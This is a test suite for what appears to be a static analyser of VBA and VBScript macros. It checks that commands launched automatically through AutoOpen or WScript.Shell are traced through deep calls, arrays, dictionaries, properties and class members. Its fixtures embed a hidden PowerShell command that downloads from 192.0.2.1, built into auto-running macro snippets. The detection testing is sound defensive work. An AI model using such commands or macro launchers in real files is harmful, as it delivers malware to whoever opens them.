/** A call that is not followed, because calls are too deep or it may not happen, may still have written what is used later. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { readBasic } from './basic.ts'
import { CALL_DEPTH_MAX } from './evaluate.ts'

const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const HARMLESS = 'notepad c:\\a.txt'
const [E, H] = [`"${EVIL}"`, `"${HARMLESS}"`]

/** A procedure whose last call does something: past the depth that is followed, and where nobody knows whether it is called. */
const DEPTHS: Record<string, (last: string) => string> = {
  'too deep': (last) => `If n = ${CALL_DEPTH_MAX + 30} Then\n${last}\nElse\nf n + 1\nEnd If`,
  'in doubt': (last) => `If n = 9 Then\n${last}\nElse\nIf Hour(Now) > 99 Then f n + 1\nEnd If`,
  'counted outside': (last) => `k = k + 1\nIf k = ${CALL_DEPTH_MAX + 30} Then\n${last}\nElse\nf n\nEnd If`,
}

/** Declarations, what is done before and after the call, and what the last call does. */
const PLACES: Record<string, [declared: string, before: string, last: string, used: string, rest?: string]> = {
  'a variable': ['Dim s', `s = ${H}`, `s = ${E}`, 's'],
  'an element': ['Dim a(2)', `a(0) = ${H}`, `a(0) = ${E}`, 'a(0)'],
  'an unknown element': ['Dim a(2)', `a(1) = ${H}`, `a(Hour(Now)) = ${E}`, 'a(1)'],
  'an entry': ['Dim d', `Set d = CreateObject("Scripting.Dictionary")\nd("k") = ${H}`, `d("k") = ${E}`, 'd("k")'],
  'an added item': ['Dim d', 'Set d = CreateObject("Scripting.Dictionary")', `d.Add "k", ${E}`, 'd("k")'],
  'a property': [
    'Dim o',
    `Set o = CreateObject("ADODB.Command")\no.CommandText = ${H}`,
    `o.CommandText = ${E}`,
    'o.CommandText',
  ],
  'a variable by another procedure': ['Dim s', `s = ${H}`, 'g', 's', `Sub g()\ns = ${E}\nEnd Sub`],
  'a variable by a reference': ['Dim s', `s = ${H}`, 'g s', 's', `Sub g(t)\nt = ${E}\nEnd Sub`],
  'a part of the text': ['Dim s', 's = "x"', 's = "powershell"', 's & " -w hidden iwr http://192.0.2.1/a"'],
  'a returned text': ['Dim s', `s = ${H}`, 's = g()', 's', `Function g()\ng = ${E}\nEnd Function`],
}

const starts = (text: string, isScript: boolean): string[] =>
  readBasic([{ name: 'a', text }], { isScript })
    .effects.filter(({ kind, isAutomatic }) => kind === 'start' && isAutomatic)
    .map((effect) => effect.text)

for (const [depth, body] of Object.entries(DEPTHS))
  suite(`a call that is ${depth} may write`, () => {
    for (const [place, [declared, before, last, used, rest = '']] of Object.entries(PLACES)) {
      const procedure = `Sub f(n)\n${body(last)}\nEnd Sub\n${rest}\n`
      test(`${place} of a macro`, () => {
        const text = `${declared}\nDim k\nSub AutoOpen()\nk = 0\n${before}\nf 0\nShell ${used}\nEnd Sub\n${procedure}`
        assert.ok(starts(text, false).includes(EVIL), JSON.stringify(starts(text, false)))
      })
      test(`${place} of a script`, () => {
        const text = `${declared}\nDim k\nk = 0\n${before}\nf 0\nCreateObject("WScript.Shell").Run ${used}\n${procedure}`
        assert.ok(starts(text, true).includes(EVIL), JSON.stringify(starts(text, true)))
      })
      test(`${place}, and what is written afterwards counts alone`, () => {
        if (!/^\w+$/.test(used)) return
        const text = `${declared}\nDim k\nSub AutoOpen()\nk = 0\n${before}\nf 0\n${used} = ${H}\nShell ${used}\nEnd Sub\n${procedure}`
        assert.deepEqual(starts(text, false), [HARMLESS])
      })
    }
  })

suite('classes', () => {
  const script = (body: string): string =>
    `Class A\nPublic t\nSub f(n)\n${body}\nEnd Sub\nEnd Class\nSet o = New A\no.t = ${H}\no.f 0\nCreateObject("WScript.Shell").Run o.t`
  test('a member that a procedure of its class writes', () =>
    assert.ok(starts(script(`t = ${E}`), true).includes(EVIL)))
  test('a member that a deep call writes', () =>
    assert.ok(starts(script(DEPTHS['too deep']?.(`t = ${E}`) ?? ''), true).includes(EVIL)))
})

suite('an unknown place may be each of them', () => {
  const cases: Record<string, string> = {
    'an element that is read': `Dim a(2)\na(0) = ${H}\na(1) = ${E}\nShell a(Hour(Now))`,
    'an element that is written': `Dim a(2)\na(0) = ${H}\na(Hour(Now)) = ${E}\nShell a(0)`,
    'an entry that is read': `Set d = CreateObject("Scripting.Dictionary")\nd("a") = ${H}\nd("b") = ${E}\nShell d(CStr(Hour(Now)))`,
    'an entry that is written': `Set d = CreateObject("Scripting.Dictionary")\nd("a") = ${H}\nd(CStr(Hour(Now))) = ${E}\nShell d("a")`,
    'a part of a text': `Shell Split(${H} & "|" & ${E}, "|")(Hour(Now))`,
  }
  for (const [name, body] of Object.entries(cases))
    test(name, () => assert.ok(starts(`Sub AutoOpen()\n${body}\nEnd Sub`, false).includes(EVIL)))
})
